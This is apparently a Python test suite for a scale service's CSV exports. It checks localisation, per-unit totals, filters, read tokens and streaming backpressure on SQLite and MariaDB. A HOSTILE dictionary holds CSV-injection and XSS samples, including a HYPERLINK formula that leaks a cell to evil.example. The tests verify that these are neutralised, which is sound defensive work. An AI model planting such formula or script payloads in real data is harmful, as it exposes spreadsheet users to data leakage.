"""CSV exports as a spreadsheet user meets them: the records of two scales on real ptys
(a truck scale in kg, a lab balance in g), read back with Python's csv module in both
languages, totals per unit, the listings' filters, formulas neutralised, `?token=`; on SQLite
and on MariaDB. And the stream itself: a client that stops reading pauses the database reads."""

from __future__ import annotations

import codecs
import csv
import io
import json
import os
import re
import signal
import socket
import tempfile
import uuid
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pymysql
from twisted.internet import defer, task

from balanca.http import exports
from balanca.reading import Measurement
from balanca.store import ledger
from balanca.store.recordbook import RecordBook
from balanca.store.schema import utc_text
from tests.base import fetch, skip_or_fail
from tests.ptyscale import PtyScale
from tests.storebase import MARIADB
from tests.test_scale_serial import SerialCase, sleep

TIME = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d")
HOSTILE = {
    "party": '=HYPERLINK("http://evil.example/?"&A1,"clique")',
    "reference": "@SUM(1+1)",
    "note": '-2+3;"quoted", and\r\na second line',
    "product": "+soja <script>alert(1)</script>",
}


class Indicator:
    """A scale on a pty showing one measurement: a continuous one sends it 20 times a second,
    a polled one answers polls with it."""

    def __init__(self, scale: PtyScale) -> None:
        self.scale = scale
        self.loop = task.LoopingCall(self._send) if scale.wire.poll is None else None
        if self.loop is not None:
            self.loop.start(0.05)

    def show(self, m: Measurement) -> None:
        self.scale.measurement = m

    def _send(self) -> None:
        if self.scale.master is not None and self.scale.measurement is not None:
            self.scale.send(self.scale.measurement)

    def stop(self) -> None:
        if self.loop is not None and self.loop.running:
            self.loop.stop()


class SiteCase(SerialCase):
    """A service reading two pty scales, `truck` (Toledo, kg) and `lab` (MT-SICS, g)."""

    timeout = 120
    write_token: str | None = None

    def db_args(self) -> list[str]:
        """Where the service keeps its records (SQLite unless a subclass says otherwise)."""
        return []

    @defer.inlineCallbacks
    def start_site(self, *extra: str) -> Any:
        self.indicators = {}
        specs = []
        for name, protocol in (("truck", "toledo"), ("lab", "sics")):
            scale = self.pty(protocol)
            indicator = self.indicators[name] = Indicator(scale)
            self.addCleanup(indicator.stop)
            specs += ["--scale", f"{name}={scale.spec('poll=0.05')}"]
        yield self.start(*specs, *self.db_args(), *extra)
        headers = {"Authorization": f"Bearer {self.write_token}"} if self.write_token else None
        for _ in range(200):  # a MariaDB database is made and migrated first
            if (yield fetch(self.url("/api/weighings"), headers=headers)).code == 200:
                return
            yield sleep(0.05)
        self.fail("the database never became ready")

    @defer.inlineCallbacks
    def show(self, scale: str, weight: str, unit: str, headers: dict[str, str] | None) -> Any:
        """Show `weight` on `scale` and wait until the service reads it, stable."""
        self.indicators[scale].show(Measurement(Decimal(weight), unit, True, "gross", Decimal(0)))
        for _ in range(200):
            reading = yield fetch(self.url(f"/api/scales/{scale}/weight"), headers=headers)
            if reading.code == 200 and (reading.json()["weight"], reading.json()["stable"]) == (
                weight,
                True,
            ):
                return
            yield sleep(0.05)
        self.fail(f"{scale} never showed {weight} stable")

    @defer.inlineCallbacks
    def capture(
        self,
        on: str,
        weight: str,
        unit: str,
        headers: dict[str, str] | None = None,
        path: str = "/api/scales/{scale}/weighings",
        **fields: Any,
    ) -> Any:
        """Show `weight` on scale `on`, then POST `fields` (again: true) to `path`: 201's
        body."""
        yield self.show(on, weight, unit, headers)
        response = yield self.send(path.format(scale=on), {**fields, "again": True}, headers)
        self.assertEqual(response.code, 201, response.body)
        return response.json()

    @defer.inlineCallbacks
    def send(
        self, path: str, body: Any, headers: dict[str, str] | None = None, method: bytes = b"POST"
    ) -> Any:
        raw = json.dumps(body).encode()
        headers = {"Content-Type": "application/json", **(headers or {})}
        return (yield fetch(self.url(path), method, raw, headers))

    @defer.inlineCallbacks
    def capture_trucks(self, headers: dict[str, str] | None = None) -> Any:
        """Five transactions: 1 closed in two passes, 2 in one pass on a stored tare, 3 left
        open, 4 voided, 5 closed on the lab balance in g. Their final JSON, by id."""
        opening = "/api/scales/{scale}/transactions"
        one = yield self.capture("truck", "14980.0", "kg", headers, opening, plate="AAA1111",
                                 **HOSTILE)  # fmt: skip
        yield self.capture(
            "truck", "45000.5", "kg", headers, f"/api/transactions/{one['id']}/close", scale="truck"
        )
        stored = yield self.send("/api/vehicles/BBB2222/tare",
                                 {"tare": "15000.0", "unit": "kg", "reason": "tara aferida"},
                                 headers, b"PUT")  # fmt: skip
        self.assertEqual(stored.code, 201, stored.body)
        yield self.capture("truck", "40000.0", "kg", headers, opening, plate="BBB2222",
                           product="Milho", stored_tare=True)  # fmt: skip
        yield self.capture("truck", "16000.0", "kg", headers, opening, plate="CCC3333")
        four = yield self.capture("truck", "15000.0", "kg", headers, opening, plate="DDD4444")
        yield self.capture(
            "truck",
            "35000.0",
            "kg",
            headers,
            f"/api/transactions/{four['id']}/close",
            scale="truck",
        )
        void = yield self.send(
            f"/api/transactions/{four['id']}/void", {"reason": "pesou errado"}, headers
        )
        self.assertEqual(void.code, 201, void.body)
        five = yield self.capture("lab", "0.500", "g", headers, opening, plate="LAB1")
        yield self.capture(
            "lab", "12.345", "g", headers, f"/api/transactions/{five['id']}/close", scale="lab"
        )
        found = {}
        for number in range(1, 6):
            found[number] = (
                yield fetch(self.url(f"/api/transactions/{number}"), headers=headers)
            ).json()
        self.assertEqual([found[n]["state"] for n in found],
                         ["closed", "closed", "open", "void", "closed"])  # fmt: skip
        return found

    @defer.inlineCallbacks
    def capture_site(self) -> Any:
        """Five records: three truck weighings (one of them voided afterwards), two lab ones."""
        records = [
            (yield self.capture("truck", "35420.5", "kg", plate="abc-1d23", **HOSTILE)),
            (yield self.capture("lab", "12.345", "g", reference="lote 7")),
            (yield self.capture("truck", "14980.0", "kg", plate="XYZ9876", party="Cooperativa")),
            (yield self.capture("lab", "0.500", "g", note="\tamostra")),
            (yield self.capture("truck", "27000.5", "kg", plate="ABC1D23", product="milho")),
        ]
        void = yield self.send("/api/weighings/3/void", {"reason": "=placa trocada"})
        self.assertEqual(void.code, 201, void.body)
        return [*records, void.json()]

    @defer.inlineCallbacks
    def listed(self, query: str = "") -> Any:
        """The numbers `GET /api/weighings` lists for `query`."""
        sep = "&" if query else ""
        body = (yield fetch(self.url(f"/api/weighings?limit=1000{sep}{query}"))).json()
        return [r["number"] for r in body["weighings"]]

    @defer.inlineCallbacks
    def export(self, query: str = "", lang: str = "pt-BR", of: str = "weighings") -> Any:
        """`GET /api/{of}.csv?query` read back: (header, rows, totals lines)."""
        response = yield fetch(self.url(f"/api/{of}.csv?lang={lang}&{query}"))
        self.assertEqual(response.code, 200, response.body)
        return read_csv(response.body, lang)


def read_csv(body: bytes, lang: str) -> tuple[list[str], list[list[str]], list[list[str]]]:
    """A CSV export as a spreadsheet would open it: (header, rows, totals lines)."""
    if lang == "pt-BR":
        assert body.startswith(codecs.BOM_UTF8), body[:10]
        body = body[len(codecs.BOM_UTF8) :]
    else:
        assert not body.startswith(codecs.BOM_UTF8)
    text = body.decode("utf-8")
    lines = re.sub(r'"[^"]*"', "", text)  # quoted cells may hold line breaks of their own
    assert "\n" not in lines.replace("\r\n", ""), "every line ends with CRLF"
    assert text.endswith("\r\n")
    table = list(
        csv.reader(io.StringIO(text, newline=""), delimiter=";" if lang == "pt-BR" else ",")
    )
    header, *rest = table
    assert all(len(row) == len(header) for row in rest), "every line has every cell"
    rows = [row for row in rest if row[0] != "Total"]
    totals = [row for row in rest if row[0] == "Total"]
    assert rest[len(rows) :] == totals, "the totals come last"
    return header, rows, totals


def number(text: str, lang: str) -> Decimal:
    """A decimal cell as a spreadsheet in `lang` reads it."""
    return Decimal(text.replace(",", ".") if lang == "pt-BR" else text)


class WeighingsCsvOnSQLite(SiteCase):
    @defer.inlineCallbacks
    def test_both_languages_read_back_with_exact_weights_local_times_and_totals_per_unit(
        self,
    ) -> defer.Generator:
        yield self.start_site()
        records = yield self.capture_site()
        for lang, headers in (
            ("pt-BR", ("Número", "Tipo", "Data e hora", "Balança", "Placa", "Peso", "Unidade")),
            ("en", ("Number", "Kind", "Time", "Scale", "Plate", "Weight", "Unit")),
        ):
            header, rows, totals = yield self.export(lang=lang)
            self.assertEqual(tuple(header[:5]), headers[:5])
            col = {name: header.index(name) for name in headers}
            self.assertEqual([int(r[0]) for r in rows], [6, 5, 4, 3, 2, 1])  # newest first
            by_number = {int(r[0]): r for r in rows}
            for record in records:
                row = by_number[record["number"]]
                weight = row[col[headers[5]]]
                if record["weight"] is None:
                    self.assertEqual(weight, "")
                    continue
                expected = (
                    record["weight"].replace(".", ",") if lang == "pt-BR" else record["weight"]
                )
                self.assertEqual(weight, expected)  # the sealed digits, the language's mark
                self.assertRegex(row[col[headers[2]]], TIME)
                self.assertEqual(row[col[headers[3]]], record["scale"])
            self.assertEqual(by_number[1][col[headers[4]]], "ABC1D23")
            self.assertEqual(
                by_number[6][col[headers[1]]], "anulação" if lang == "pt-BR" else "void"
            )
            self.assertEqual(
                by_number[3][header.index("Anulado pelo nº" if lang == "pt-BR" else "Voided by")],
                "6",
            )
            # Totals: record 3 is voided, record 6 is its void; both left out.
            total = {t[col[headers[6]]]: t for t in totals}
            self.assertEqual(sorted(total), ["g", "kg"])
            self.assertEqual(total["kg"][1], "2")
            self.assertEqual(number(total["kg"][col[headers[5]]], lang), Decimal("62421.0"))
            self.assertEqual(total["g"][1], "2")
            self.assertEqual(number(total["g"][col[headers[5]]], lang), Decimal("12.845"))

    @defer.inlineCallbacks
    def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(self) -> defer.Generator:
        yield self.start_site()
        yield self.capture_site()
        header, rows, _ = yield self.export()
        first = next(r for r in rows if r[0] == "1")
        cells = dict(zip(header, first, strict=True))
        self.assertEqual(cells["Cliente/fornecedor"], "'" + HOSTILE["party"])
        self.assertEqual(cells["Referência"], "'" + HOSTILE["reference"])
        self.assertEqual(cells["Observação"], "'" + HOSTILE["note"])  # CR LF kept, quoted
        self.assertEqual(cells["Produto"], "'" + HOSTILE["product"])
        fourth = dict(zip(header, next(r for r in rows if r[0] == "4"), strict=True))
        self.assertEqual(fourth["Observação"], "'\tamostra")
        void = dict(zip(header, next(r for r in rows if r[0] == "6"), strict=True))
        self.assertEqual((void["Motivo"], void["Anula o nº"]), ("'=placa trocada", "3"))
        for row in rows:
            for text in row:
                self.assertFalse(text.startswith(("=", "+", "-", "@", "\t", "\r")), text)

    @defer.inlineCallbacks
    def test_the_listings_filters_pick_the_same_records_as_the_json_listing(
        self,
    ) -> defer.Generator:
        yield self.start_site()
        records = yield self.capture_site()
        since = records[1]["captured"]
        until = records[4]["captured"]
        for query in (
            "scale=truck",
            "scale=lab",
            "plate=abc-1d23",
            "kind=void",
            "kind=weighing&scale=lab",
            "before=5",
            "before=5&limit=2",
            "limit=3",
            f"since={since}&until={until}".replace("+", "%2B"),
        ):
            _, rows, totals = yield self.export(query)
            expected = yield self.listed(query)
            self.assertEqual([int(r[0]) for r in rows], expected, query)
            self.assertEqual(sum(int(t[1]) for t in totals), len([
                r for r in rows if r[1] != "anulação" and r[0] != "3"
            ]), query)  # fmt: skip
        _, rows, totals = yield self.export("plate=NOPE")
        self.assertEqual((rows, totals), ([], [["Total", "0", *[""] * 19]]))
        for bad in ("kind=sale", "scale=nope", "limit=0", "before=x", "since=yesterday", "lang=fr"):
            response = yield fetch(self.url(f"/api/weighings.csv?{bad}"))
            self.assertEqual((response.code, response.json()["code"]), (400, "bad_request"), bad)

    @defer.inlineCallbacks
    def test_a_read_token_is_taken_from_the_query_or_the_header(self) -> defer.Generator:
        folder = Path(tempfile.mkdtemp())
        (folder / "read").write_text("leitura\n")
        (folder / "write").write_text("escrita\n")
        self.write_token = "escrita"
        yield self.start_site(
            "--read-token-file", str(folder / "read"), "--token-file", str(folder / "write")
        )
        bearer = {"Authorization": "Bearer leitura"}
        yield self.capture("truck", "1000.0", "kg", headers={"Authorization": "Bearer escrita"})
        for path, code in (
            ("/api/weighings.csv", 401),
            ("/api/weighings.csv?token=errado", 401),
            ("/api/weighings.csv?token=leitura", 200),
            ("/api/weighings?token=leitura", 401),  # only where a browser opens the URL
        ):
            response = yield fetch(self.url(path))
            self.assertEqual(response.code, code, path)
        head = yield fetch(self.url("/api/weighings.csv?token=leitura"), b"HEAD")
        self.assertEqual((head.code, head.header("Content-Type"), head.body),
                         (200, "text/csv; charset=utf-8", b""))  # fmt: skip
        posted = yield fetch(self.url("/api/weighings.csv"), b"POST", b"{}", bearer)
        self.assertEqual((posted.code, posted.json()["code"]), (405, "method_not_allowed"))
        unauthorized = yield fetch(self.url("/api/weighings.csv"))
        self.assertEqual(unauthorized.json()["code"], "unauthorized")
        self.assertEqual(unauthorized.header("WWW-Authenticate"), 'Bearer realm="balanca"')
        response = yield fetch(self.url("/api/weighings.csv?lang=en"), headers=bearer)
        self.assertEqual(response.code, 200)
        self.assertEqual(response.header("Content-Type"), "text/csv; charset=utf-8")
        self.assertIn("attachment", response.header("Content-Disposition") or "")
        _, rows, _ = read_csv(response.body, "en")
        self.assertEqual([r[0] for r in rows], ["1"])

    @defer.inlineCallbacks
    def paused_export(self) -> Any:
        """A chain of 20,001 records and a client that asks for their export and reads
        nothing: (its socket, the export's stream, the endpoint) once the stream pauses."""
        yield self.start_site()
        yield self.capture("truck", "35420.5", "kg", note="x" * 400)
        book = next(s for s in self.service if isinstance(s, RecordBook))
        for _ in range(4):
            yield book.interact(copies, book.dialect, book.signer, 5000)
        endpoint = self.csv_endpoint()
        client = socket.socket()
        self.addCleanup(client.close)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        client.setblocking(False)
        client.connect_ex(("127.0.0.1", self.port()))
        yield sleep(0.1)
        client.send(b"GET /api/weighings.csv HTTP/1.1\r\nHost: x\r\n\r\n")
        for _ in range(100):
            if endpoint.streams:
                break
            yield sleep(0.05)
        (stream,) = endpoint.streams
        still, rows = 0, -1
        for _ in range(60):  # the socket's buffers fill (the kernel's grow a little at first)
            rows, _ = stream.rows, (yield sleep(0.25))
            still = still + 1 if stream.waiting and stream.rows == rows else 0
            if still == 4:
                break
        self.assertEqual(still, 4, "the stream pauses for good")
        return client, stream, endpoint

    @defer.inlineCallbacks
    def test_a_client_that_stops_reading_pauses_the_database_reads(self) -> defer.Generator:
        client, stream, endpoint = yield self.paused_export()
        paused_at = stream.rows
        yield sleep(2.0)
        self.assertTrue(stream.waiting, "still paused: no page read while the client reads nothing")
        self.assertLessEqual(stream.rows - paused_at, 1000, "a page or two as the kernel settles")
        self.assertLess(stream.rows, 10000, "the socket's buffers hold a few thousand rows at most")
        received = bytearray()
        while b"\r\n0\r\n\r\n" not in received[-16:]:
            try:
                data = client.recv(65536)
            except BlockingIOError:
                yield sleep(0.01)
                continue
            self.assertTrue(data, "the service closed the stream early")
            received += data
        self.assertEqual(stream.rows, 20001)
        self.assertEqual(endpoint.streams, set())
        self.assertEqual(received.count(b"\r\nTotal;20001;"), 1)

    @defer.inlineCallbacks
    def test_a_client_that_reads_nothing_for_the_stall_time_is_cut(self) -> defer.Generator:
        self.patch(exports, "STALL", 1.0)
        client, stream, endpoint = yield self.paused_export()
        self.assertLess(stream.rows, 20001)
        yield sleep(2.0)
        self.assertEqual(endpoint.streams, set(), "the export is over")
        received = bytearray()
        try:
            while data := client.recv(65536):
                received += data
        except ConnectionResetError:
            pass  # cut: the kernel may drop what the client had not read
        except BlockingIOError:
            self.fail("the service still holds the connection")
        self.assertNotIn(b"\r\n0\r\n\r\n", received[-16:], "no last chunk: a cut transfer")

    @defer.inlineCallbacks
    def test_an_export_whose_worker_dies_is_cut_short_not_finished(self) -> defer.Generator:
        client, stream, endpoint = yield self.paused_export()
        for pid in list(stream.pages.worker.pool._processes):  # the worker dies (OOM, a kill)
            os.kill(pid, signal.SIGKILL)
        received = bytearray()
        for _ in range(1500):  # a zero window is probed at growing intervals: give it time
            try:
                data = client.recv(65536)
            except BlockingIOError:
                yield sleep(0.02)
                continue
            except ConnectionResetError:
                break
            if not data:
                break
            received += data
        else:
            self.fail("the service kept the connection open")
        self.assertNotIn(b"\r\n0\r\n\r\n", received[-16:], "no last chunk: a cut transfer")
        self.assertNotIn(b"\r\nTotal;", received, "no totals line")
        self.assertLess(stream.rows, 20001)
        self.assertEqual((endpoint.workers, endpoint.streams), (0, set()))
        self.flushLoggedErrors()  # the pool's own report of its dead process, if any

    @defer.inlineCallbacks
    def test_a_third_export_at_once_is_told_to_come_back(self) -> defer.Generator:
        first, _, endpoint = yield self.paused_export()
        second = socket.create_connection(("127.0.0.1", self.port()))
        self.addCleanup(second.close)
        second.sendall(b"GET /api/weighings.csv HTTP/1.1\r\nHost: x\r\n\r\n")
        for _ in range(100):
            if len(endpoint.streams) == 2:
                break
            yield sleep(0.05)
        busy = yield fetch(self.url("/api/weighings.csv"))
        self.assertEqual((busy.code, busy.json()["code"]), (503, "exports_busy"))
        first.close()
        for _ in range(100):
            if len(endpoint.streams) == 1:
                break
            yield sleep(0.05)
        again = yield fetch(self.url("/api/weighings.csv?limit=3"))
        self.assertEqual(again.code, 200)
        self.assertEqual(len(read_csv(again.body, "pt-BR")[1]), 3)

    @defer.inlineCallbacks
    def test_a_client_gone_before_the_first_page_leaves_no_error(self) -> defer.Generator:
        yield self.start_site()
        yield self.capture("truck", "1000.0", "kg")
        endpoint = self.csv_endpoint()
        for _ in range(5):
            client = socket.create_connection(("127.0.0.1", self.port()))
            client.sendall(b"GET /api/weighings.csv HTTP/1.1\r\nHost: x\r\n\r\n")
            client.close()
        for _ in range(100):  # trial fails the test if the service logs an error meanwhile
            if endpoint.workers == 0:
                break
            yield sleep(0.05)
        self.assertEqual((endpoint.workers, endpoint.streams), (0, set()))
        response = yield fetch(self.url("/api/weighings.csv"))
        self.assertEqual(response.code, 200)

    def csv_endpoint(self) -> Any:
        from balanca.http.exports import WeighingsCsv

        api = self.service.parts.site.resource.children[b"api"]
        endpoint = api.children[b"weighings.csv"]
        assert isinstance(endpoint, WeighingsCsv)
        return endpoint


def copies(txn: Any, dialect: Any, key: Any, count: int) -> None:
    """Append `count` copies of the newest record, each numbered, chained and sealed by the
    ledger itself, in one database transaction (a test's quick way to a long chain)."""
    newest = ledger.get(txn, dialect, ledger.extent(txn)[0])
    assert newest is not None
    draft = {k: newest[k] for k in ledger.STORED_KEYS if k not in ("number", *ledger.SEAL_KEYS)}
    captured_utc = utc_text(datetime.fromisoformat(draft["captured"]))
    for _ in range(count):
        ledger.append(txn, dialect, draft, key, captured_utc, uuid.uuid4().hex)


class OnMariaDB(SiteCase):
    """The service keeps its records in a fresh MariaDB database, dropped afterwards."""

    def setUp(self) -> None:
        super().setUp()
        try:
            pymysql.connect(**MARIADB, connect_timeout=3).close()
        except pymysql.err.Error as error:
            skip_or_fail(f"no MariaDB at 127.0.0.1:3306: {error}")
        self.database = f"balanca_exports_{uuid.uuid4().hex[:12]}"

        def drop() -> None:
            connection = pymysql.connect(**MARIADB)
            with connection.cursor() as cursor:
                cursor.execute(f"DROP DATABASE IF EXISTS `{self.database}`")
            connection.close()

        self.addCleanup(drop)

    def db_args(self) -> list[str]:
        return ["--db", f"mysql://root@127.0.0.1:{MARIADB['port']}/{self.database}"]


class WeighingsCsvOnMariaDB(OnMariaDB):
    test_both_languages_read_back_with_exact_weights_local_times_and_totals_per_unit = WeighingsCsvOnSQLite.test_both_languages_read_back_with_exact_weights_local_times_and_totals_per_unit
    test_the_listings_filters_pick_the_same_records_as_the_json_listing = (
        WeighingsCsvOnSQLite.test_the_listings_filters_pick_the_same_records_as_the_json_listing
    )


class TransactionsCsvOnSQLite(SiteCase):
    @defer.inlineCallbacks
    def test_transactions_read_back_in_both_languages_with_the_closed_ones_totalled(
        self,
    ) -> defer.Generator:
        yield self.start_site()
        found = yield self.capture_trucks()
        for lang in ("pt-BR", "en"):
            header, rows, totals = yield self.export(lang=lang, of="transactions")
            self.assertEqual(header[:3], ["Ticket", "Situação", "Placa"] if lang == "pt-BR"
                             else ["Ticket", "State", "Plate"])  # fmt: skip
            self.assertEqual([int(r[0]) for r in rows], [5, 4, 3, 2, 1])
            cells = {int(r[0]): dict(zip(header, r, strict=True)) for r in rows}
            en = lang == "en"
            for tid, transaction in found.items():
                row = cells[tid]
                for key, pt, english in (("gross", "Bruto", "Gross"), ("tare", "Tara", "Tare"),
                                         ("net", "Líquido", "Net")):  # fmt: skip
                    value = transaction[key]
                    expected = "" if value is None else value if en else value.replace(".", ",")
                    self.assertEqual(row[english if en else pt], expected, (tid, key))
            one, two, three = cells[1], cells[2], cells[3]
            if en:
                self.assertEqual((one["State"], one["Entry weight"], one["Exit weight"]),
                                 ("closed", "14980.0", "45000.5"))  # fmt: skip
                self.assertRegex(one["Entry time"], TIME)
                self.assertEqual((one["Entry record"], one["Exit record"]), ("1", "2"))
                self.assertEqual((two["Tare source"], two["Entry time"], two["Tare record"]),
                                 ("stored", "", str(found[2]["out"]["tare_record"])))  # fmt: skip
                self.assertEqual((three["State"], three["Exit time"], three["Tare mismatch"]),
                                 ("open", "", "no"))  # fmt: skip
                self.assertEqual(cells[4]["State"], "void")
            else:
                self.assertEqual((one["Situação"], one["Peso de entrada"], one["Origem da tara"]),
                                 ("fechada", "14980,0", "pesagem"))  # fmt: skip
                self.assertEqual(one["Cliente/fornecedor"], "'" + HOSTILE["party"])
                self.assertEqual(one["Observação"], "'" + HOSTILE["note"])
                self.assertEqual((two["Origem da tara"], cells[4]["Situação"]),
                                 ("armazenada", "anulação"))  # fmt: skip
            unit = "Unit" if en else "Unidade"
            total = {t[header.index(unit)]: dict(zip(header, t, strict=True)) for t in totals}
            self.assertEqual(sorted(total), ["g", "kg"])
            kg, g = total["kg"], total["g"]
            self.assertEqual((kg[header[1]], g[header[1]]), ("2", "1"))  # closed ones only
            for names, sums in ((("Gross", "Bruto"), ("85000.5", "12.345")),
                                (("Tare", "Tara"), ("29980.0", "0.500")),
                                (("Net", "Líquido"), ("55020.5", "11.845"))):  # fmt: skip
                name = names[0] if en else names[1]
                self.assertEqual((number(kg[name], lang), number(g[name], lang)),
                                 tuple(Decimal(v) for v in sums), name)  # fmt: skip

    @defer.inlineCallbacks
    def test_the_transaction_listings_filters_pick_the_same_transactions(
        self,
    ) -> defer.Generator:
        yield self.start_site()
        found = yield self.capture_trucks()
        since = found[2]["opened"].replace("+", "%2B")
        until = found[5]["opened"].replace("+", "%2B")
        for query in ("state=closed", "state=open", "state=void", "plate=aaa-1111", "before=4",
                      "before=4&limit=1", "limit=2", f"since={since}&until={until}"):  # fmt: skip
            _, rows, totals = yield self.export(query, of="transactions")
            listed = yield fetch(self.url(f"/api/transactions?limit=1000&{query}"))
            expected = [t["id"] for t in listed.json()["transactions"]]
            self.assertEqual([int(r[0]) for r in rows], expected, query)
            self.assertEqual(sum(int(t[1]) for t in totals),
                             len([r for r in rows if r[1] == "fechada"]), query)  # fmt: skip
        for bad in ("state=half", "limit=0", "plate=!", "until=never"):
            response = yield fetch(self.url(f"/api/transactions.csv?{bad}"))
            self.assertEqual(response.code, 400, bad)
        big = yield fetch(self.url("/api/transactions.csv?limit=5000"))
        self.assertEqual(big.code, 200)  # an export has no cap of 1000


class TransactionsCsvOnMariaDB(OnMariaDB):
    test_transactions_read_back_in_both_languages_with_the_closed_ones_totalled = TransactionsCsvOnSQLite.test_transactions_read_back_in_both_languages_with_the_closed_ones_totalled
    test_the_transaction_listings_filters_pick_the_same_transactions = (
        TransactionsCsvOnSQLite.test_the_transaction_listings_filters_pick_the_same_transactions
    )
